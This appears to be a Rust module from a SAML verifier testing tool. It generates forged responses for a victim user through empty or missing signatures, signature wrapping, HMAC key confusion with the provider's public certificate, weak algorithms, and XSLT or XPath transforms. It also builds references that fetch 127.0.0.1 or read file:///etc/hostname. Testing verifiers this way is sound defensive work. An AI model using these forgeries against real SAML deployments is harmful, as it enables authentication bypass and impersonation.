//! Signatures that are none, that are by somebody else, or that a verifier and a reader understand differently.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use openssl::hash::MessageDigest;
use openssl::pkey::PKey;

use crate::base::*;
use crate::world::{Signer, assertion, between, changed, response};

/// A response about the victim, before anybody signs it.
fn wanted() -> String {
    response(&forged("_a1"))
}

/// The ID of what the signature of this shape stands in.
fn signed_id(profile: Profile) -> &'static str {
    if profile.shape == Shape::Assertion { "_a1" } else { "_r1" }
}

/// A part of a text, moved to before, behind and into the issuer's end.
fn moved(document: &str, part: &str, place: Place) -> String {
    let without = document.replacen(part, "", 1);
    let marker = match place {
        Place::Before => "<saml:Issuer>",
        Place::Inside => "<saml:Subject>",
        Place::After => "</saml:Assertion>",
    };
    changed(&without, marker, &format!("{part}{marker}"))
}

/// No signature, or one with nothing in it.
pub(crate) fn missing(base: &Base) -> Vec<Attack> {
    let theirs = base
        .profile
        .response(base.profile.provider(), &wanted().replace(VICTIM, PERSON))
        .replace(PERSON, VICTIM);
    let none = base.profile.template("_a1");
    let signature = signature(&theirs);
    let value = between(signature, "<ds:SignatureValue>", "</ds:SignatureValue>");
    let digest = between(signature, "<ds:DigestValue>", "</ds:DigestValue>");
    let info = between(signature, "<ds:SignedInfo>", "</ds:SignedInfo>");
    let empty_digest = STANDARD.encode(openssl::sha::sha256(b""));
    let mut attacks = vec![attack("nothing is signed", wanted())];
    let variants = [
        ("a changed name under a genuine signature", signature.to_owned()),
        ("an empty signature", format!("<ds:Signature xmlns:ds=\"{XMLDSIG}\"/>")),
        ("a signature that was never made", none),
        ("an empty value", changed(signature, value, "<ds:SignatureValue/>")),
        ("a value of nothing", changed(signature, value, "<ds:SignatureValue>AA==</ds:SignatureValue>")),
        (
            "a value of zeros",
            changed(
                signature,
                value,
                &format!("<ds:SignatureValue>{}</ds:SignatureValue>", STANDARD.encode([0; 256])),
            ),
        ),
        ("no value", changed(signature, value, "")),
        ("an empty digest", changed(signature, digest, "<ds:DigestValue/>")),
        (
            "the digest of nothing",
            changed(signature, digest, &format!("<ds:DigestValue>{empty_digest}</ds:DigestValue>")),
        ),
        ("no digest", changed(signature, digest, "")),
        ("no SignedInfo", changed(signature, info, "")),
        ("an empty SignedInfo", changed(signature, info, "<ds:SignedInfo/>")),
        (
            "the namespace of another signature",
            signature.replace(XMLDSIG, "http://www.w3.org/2000/10/xmldsig#"),
        ),
        (
            "a signature in no namespace",
            signature.replace(&format!(" xmlns:ds=\"{XMLDSIG}\""), "").replace("ds:", ""),
        ),
    ];
    for (name, variant) in variants {
        let document = theirs.replacen(signature, &variant, 1);
        for place in Place::ALL {
            attacks.push(attack(
                format!("{name}, {} its place", place.word()),
                moved(&document, &variant, place),
            ));
        }
    }
    attacks
}

/// A genuine `SignedInfo` and another one, or a genuine digest and another one: which is verified, and which is read? Of
/// these were CVE-2025-29774 and CVE-2025-29775.
pub(crate) fn doubled(base: &Base) -> Vec<Attack> {
    let profile = base.profile;
    let id = signed_id(profile);
    let genuine = profile.sign(profile.provider(), &response(&assertion()), id);
    let strangers = profile.sign(profile.stranger(), &wanted(), id);
    let part =
        |text: &str, name: &str| between(text, &format!("<ds:{name}>"), &format!("</ds:{name}>")).to_owned();
    let mut attacks = Vec::new();
    for name in ["SignedInfo", "DigestValue", "SignatureValue"] {
        let (ours, theirs) = (part(&genuine, name), part(&strangers, name));
        let document = strangers.replacen(signature(&strangers), signature(&genuine), 1);
        for place in Place::ALL {
            let both = changed(&document, &ours, &place.put(&theirs, &ours));
            attacks.push(attack(format!("a second {name} {} the genuine one", place.word()), both));
            let both = changed(&document, &ours, &place.put(&ours, &theirs));
            attacks.push(attack(format!("the genuine {name} {} a second one", place.word()), both));
            let (_, inner) = theirs.split_once('>').unwrap();
            let (inner, _) = inner.rsplit_once("</").unwrap();
            for (what, open, close) in [
                ("a comment", "<!--", "-->"),
                ("a processing instruction", "<?x ", "?>"),
                ("CDATA", "<![CDATA[", "]]>"),
            ] {
                let hidden = hide(&ours, &format!("{open}{inner}{close}"), place);
                attacks.push(attack(
                    format!("another {name} in {what} {} the genuine one", place.word()),
                    changed(&document, &ours, &hidden),
                ));
            }
        }
    }
    for place in Place::ALL {
        let both = changed(
            &strangers,
            signature(&strangers),
            &place.put(signature(&genuine), signature(&strangers)),
        );
        attacks.push(attack(format!("a genuine signature {} a stranger's", place.word()), both));
        let manifest =
            format!("<ds:Object><ds:Manifest>{}</ds:Manifest></ds:Object>", part_of_reference(&genuine));
        let both = changed(&strangers, signature(&strangers), &place.put(&manifest, signature(&strangers)));
        attacks.push(attack(format!("a manifest {} a stranger's signature", place.word()), both));
    }
    attacks
}

fn part_of_reference(document: &str) -> &str {
    between(document, "<ds:Reference", "</ds:Reference>")
}

/// Puts something at the beginning of an element's content, before its first child or in its middle, or at its end.
fn hide(element: &str, part: &str, place: Place) -> String {
    let start = element.find('>').unwrap() + 1;
    let end = element.rfind("</").unwrap();
    let content = element.get(start..end).unwrap();
    let at = match place {
        Place::Before => start,
        Place::After => end,
        Place::Inside => start + content.find('<').filter(|at| *at > 0).unwrap_or(content.len() / 2),
    };
    let (before, behind) = element.split_at(at);
    format!("{before}{part}{behind}")
}

/// Signatures by a stranger, with whatever they say of their key.
pub(crate) fn keys(base: &Base) -> Vec<Attack> {
    let profile = base.profile;
    let (own, theirs) = (x509(profile.stranger()), x509(profile.provider()));
    let forged = profile.response(profile.stranger(), &wanted());
    let infos = [
        ("nothing", String::new()),
        ("their own certificate", format!("<ds:X509Data>{own}</ds:X509Data>")),
        ("the provider's certificate", format!("<ds:X509Data>{theirs}</ds:X509Data>")),
        ("both certificates", format!("<ds:X509Data>{own}{theirs}</ds:X509Data>")),
        ("both certificates the other way", format!("<ds:X509Data>{theirs}{own}</ds:X509Data>")),
        ("both, each by itself", format!("<ds:X509Data>{theirs}</ds:X509Data><ds:X509Data>{own}</ds:X509Data>")),
        ("a key's value", key_value(profile.stranger())),
        ("a key's name", "<ds:KeyName>idp.example</ds:KeyName>".to_owned()),
        ("a place to fetch it", "<ds:RetrievalMethod URI=\"http://127.0.0.1:1/\"/>".to_owned()),
        ("a file", "<ds:RetrievalMethod URI=\"file:///etc/hostname\" Type=\"http://www.w3.org/2000/09/xmldsig#rawX509Certificate\"/>".to_owned()),
        ("a reference", "<dsig11:KeyInfoReference xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\" URI=\"#_k\"/>".to_owned()),
        ("a comment in the certificate", format!("<ds:X509Data>{}</ds:X509Data>", theirs.replacen('>', &format!("><!--{own}-->"), 1))),
    ];
    let mut attacks = Vec::new();
    for (what, info) in infos {
        let info = format!("<ds:KeyInfo>{info}</ds:KeyInfo>");
        for (place, marker) in [
            (Place::Before, "<ds:SignedInfo>"),
            (Place::Inside, "<ds:SignatureValue>"),
            (Place::After, "</ds:Signature>"),
        ] {
            let document = changed(&forged, marker, &format!("{info}{marker}"));
            attacks.push(attack(format!("a stranger's signature with {what} {} it", place.word()), document));
        }
    }
    attacks
}

fn x509(signer: &Signer) -> String {
    format!(
        "<ds:X509Certificate>{}</ds:X509Certificate>",
        STANDARD.encode(signer.certificate.to_der().unwrap())
    )
}

fn key_value(signer: &Signer) -> String {
    let Ok(rsa) = signer.key.rsa() else {
        let key = STANDARD.encode(signer.key.public_key_to_der().unwrap());
        return format!(
            "<dsig11:DEREncodedKeyValue xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\">{key}</dsig11:DEREncodedKeyValue>"
        );
    };
    let (modulus, exponent) = (STANDARD.encode(rsa.n().to_vec()), STANDARD.encode(rsa.e().to_vec()));
    format!(
        "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{modulus}</ds:Modulus><ds:Exponent>{exponent}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"
    )
}

/// What everybody knows of the provider's key, used as the secret of an HMAC; and algorithms that nobody should take.
pub(crate) fn algorithms(base: &Base) -> Vec<Attack> {
    let profile = base.profile;
    let mut attacks = Vec::new();
    let (certificate, key) = (&profile.provider().certificate, &profile.provider().key);
    let secrets = [
        ("the certificate in PEM", certificate.to_pem().unwrap()),
        ("the certificate in DER", certificate.to_der().unwrap()),
        ("the certificate in base64", STANDARD.encode(certificate.to_der().unwrap()).into_bytes()),
        ("the key in PEM", key.public_key_to_pem().unwrap()),
        ("the key in DER", key.public_key_to_der().unwrap()),
    ];
    for (what, secret) in &secrets {
        for (algorithm, digest) in [("sha256", MessageDigest::sha256()), ("sha512", MessageDigest::sha512())]
        {
            let document = signed_by_hmac(
                profile,
                &format!("http://www.w3.org/2001/04/xmldsig-more#hmac-{algorithm}"),
                secret,
                digest,
            );
            attacks.extend(in_three_places(&format!("an HMAC by {algorithm} with {what}"), &document));
        }
        let document = signed_by_hmac(profile, &format!("{XMLDSIG}hmac-sha1"), secret, MessageDigest::sha1());
        attacks.extend(in_three_places(&format!("an HMAC by sha1 with {what}"), &document));
    }
    let template = profile.template(signed_id(profile));
    let method = between(&template, "<ds:SignatureMethod ", "/>");
    let canonical = between(&template, "<ds:CanonicalizationMethod ", "/>");
    let digest = between(&template, "<ds:DigestMethod ", "/>");
    let replaced = |part: &str, uri: &str| {
        let name = part.split_once(' ').unwrap().0;
        let changed = changed(&template, part, &format!("{name} Algorithm=\"{uri}\"/>"));
        (
            uri.to_owned(),
            try_to_sign(profile.provider(), &wanted(), signed_id(profile), &changed)
                .unwrap_or_else(|| with_signature(&wanted(), signed_id(profile), &changed)),
        )
    };
    for uri in [
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-ripemd160",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1",
        "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "",
        "none",
        "urn:none",
    ] {
        let (uri, document) = replaced(method, uri);
        attacks.extend(in_three_places(&format!("the algorithm '{uri}'"), &document));
    }
    for uri in [
        "http://www.w3.org/2000/09/xmldsig#sha1",
        "http://www.w3.org/2001/04/xmldsig-more#md5",
        "",
        "urn:none",
    ] {
        let (uri, document) = replaced(digest, uri);
        attacks.extend(in_three_places(&format!("the digest '{uri}'"), &document));
    }
    for uri in [
        "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
        "http://www.w3.org/2006/12/xml-c14n11",
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "",
        "urn:none",
    ] {
        let (uri, document) = replaced(canonical, uri);
        attacks.extend(in_three_places(&format!("the canonicalisation '{uri}'"), &document));
    }
    attacks
}

fn in_three_places(name: &str, document: &str) -> Vec<Attack> {
    let part = signature(document).to_owned();
    let at =
        |place: Place| attack(format!("{name}, {} its place", place.word()), moved(document, &part, place));
    let mut attacks = Vec::from(Place::ALL.map(at));
    attacks.push(attack(name, document));
    attacks
}

/// The victim's response, its `SignedInfo` canonicalised by hand and authenticated by a secret.
fn signed_by_hmac(profile: Profile, method: &str, secret: &[u8], digest: MessageDigest) -> String {
    let id = signed_id(profile);
    let by_stranger = profile.sign(profile.stranger(), &wanted(), id);
    let old = between(signature(&by_stranger), "<ds:SignatureMethod ", "/>");
    let document = changed(&by_stranger, old, &format!("<ds:SignatureMethod Algorithm=\"{method}\"/>"));
    let info = between(&document, "<ds:SignedInfo>", "</ds:SignedInfo>");
    let mut namespaces = format!(" xmlns:ds=\"{XMLDSIG}\"");
    if profile.inclusive {
        namespaces = format!("{namespaces} xmlns:saml=\"{ASSERTION}\" xmlns:samlp=\"{PROTOCOL}\"");
        if id == "_a1" {
            namespaces += " xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"";
        }
    }
    let canonical = canonical(info).replacen("<ds:SignedInfo", &format!("<ds:SignedInfo{namespaces}"), 1);
    let key = PKey::hmac(secret).unwrap();
    let mut signer = openssl::sign::Signer::new(digest, &key).unwrap();
    signer.update(canonical.as_bytes()).unwrap();
    let value = STANDARD.encode(signer.sign_to_vec().unwrap());
    let old = between(&document, "<ds:SignatureValue>", "</ds:SignatureValue>");
    changed(&document, old, &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"))
}

/// Empty elements written out.
fn canonical(info: &str) -> String {
    let (first, rest) = info.split_once("/>").unwrap();
    rest.split("/>").fold(first.to_owned(), |text, part| {
        let name = text.rsplit_once('<').unwrap().1.split(' ').next().unwrap();
        format!("{text}></{name}>{part}")
    })
}

/// References to something else, to several things, to nothing, through transforms that change what is digested. The
/// provider's own key made each that can be made: such a signature is loose, not forged.
pub(crate) fn references(base: &Base) -> Vec<Attack> {
    let profile = base.profile;
    let id = signed_id(profile);
    let template = profile.template(id);
    let reference = between(&template, "<ds:Reference", "</ds:Reference>");
    let uri = format!("URI=\"#{id}\"");
    let honest = response(&assertion());
    // Whoever signs a reference fetches it, so those that lead elsewhere are not signed.
    let made = |template: &str| {
        let elsewhere =
            template.contains("://127.") || template.contains("file:") || template.contains("xsl:");
        let signer = (!elsewhere).then(|| profile.provider());
        signer
            .and_then(|signer| try_to_sign(signer, &honest, id, template))
            .unwrap_or_else(|| with_signature(&honest, id, template))
    };
    let mut attacks = Vec::new();
    for (what, to) in [
        ("the whole document", "URI=\"\"".to_owned()),
        ("nothing", String::new()),
        ("an XPointer to the root", "URI=\"#xpointer(/)\"".to_owned()),
        ("an XPointer to the ID", format!("URI=\"#xpointer(id('{id}'))\"")),
        ("another host", "URI=\"http://127.0.0.1:1/x\"".to_owned()),
        ("a file", "URI=\"file:///etc/hostname\"".to_owned()),
        ("an ID that is not there", "URI=\"#_none\"".to_owned()),
        ("a bare hash", "URI=\"#\"".to_owned()),
        ("the ID in another case", uri.to_uppercase()),
        ("the ID, percent-encoded", uri.replace("#_", "#%5F")),
    ] {
        attacks.extend(in_three_places(
            &format!("a reference to {what}"),
            &made(&changed(&template, &uri, &to)),
        ));
    }
    let other = reference.replace(&format!("#{id}"), "");
    for place in Place::ALL {
        for (what, second) in [("itself", reference), ("the document", &other)] {
            let two = changed(&template, reference, &place.put(second, reference));
            attacks.push(attack(format!("a reference to {what} {} the first", place.word()), made(&two)));
        }
    }
    attacks.push(attack("no reference", made(&changed(&template, reference, ""))));
    for (what, transform) in transforms() {
        let first = between(&template, "<ds:Transform Algorithm", "/>");
        // In the place of the first, the same again would be no attack.
        for place in
            Place::ALL.into_iter().filter(|place| !(what == "the same again" && *place == Place::Inside))
        {
            let both = match place {
                Place::Before => format!("{transform}{first}"),
                Place::Inside => transform.clone(),
                Place::After => format!("{first}{transform}"),
            };
            attacks.push(attack(
                format!("{what} {} the transforms", place.word()),
                made(&changed(&template, first, &both)),
            ));
        }
    }
    attacks.push(attack(
        "no transforms",
        made(&changed(&template, between(&template, "<ds:Transforms>", "</ds:Transforms>"), "")),
    ));
    attacks.extend(left_out(profile, &template));
    attacks
}

fn transforms() -> Vec<(&'static str, String)> {
    let transform =
        |uri: &str, content: &str| format!("<ds:Transform Algorithm=\"{uri}\">{content}</ds:Transform>");
    let stylesheet = r#"<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><x/></xsl:template></xsl:stylesheet>"#;
    let filter = r#"<XPath xmlns="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*</XPath>"#;
    let inclusive =
        format!("<ec:InclusiveNamespaces xmlns:ec=\"{EXCLUSIVE}\" PrefixList=\"{}\"/>", "xs ".repeat(5000));
    vec![
        ("a style sheet", transform("http://www.w3.org/TR/1999/REC-xslt-19991116", stylesheet)),
        ("XPath", transform("http://www.w3.org/TR/1999/REC-xpath-19991116", "<ds:XPath>false()</ds:XPath>")),
        ("an XPath filter", transform("http://www.w3.org/2002/06/xmldsig-filter2", filter)),
        ("base64", transform("http://www.w3.org/2000/09/xmldsig#base64", "")),
        ("the same again", transform("http://www.w3.org/2000/09/xmldsig#enveloped-signature", "")),
        ("an unknown transform", transform("urn:none", "")),
        ("five hundred transforms", transform(EXCLUSIVE, "").repeat(500)),
        ("five thousand prefixes", transform(EXCLUSIVE, &inclusive)),
    ]
}

/// A transform that leaves the subject out of what is signed, and another subject behind it.
fn left_out(profile: Profile, template: &str) -> Vec<Attack> {
    let first = between(template, "<ds:Transform Algorithm", "/>");
    let filter = format!(
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath xmlns:saml=\"{ASSERTION}\">not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>"
    );
    let template = changed(template, first, &format!("{first}{filter}"));
    let signed = try_to_sign(profile.provider(), &response(&assertion()), signed_id(profile), &template);
    let forge = |signed: String| {
        attack("a transform that leaves the name out of what is signed", signed.replace(PERSON, VICTIM))
    };
    signed.map(forge).into_iter().collect()
}
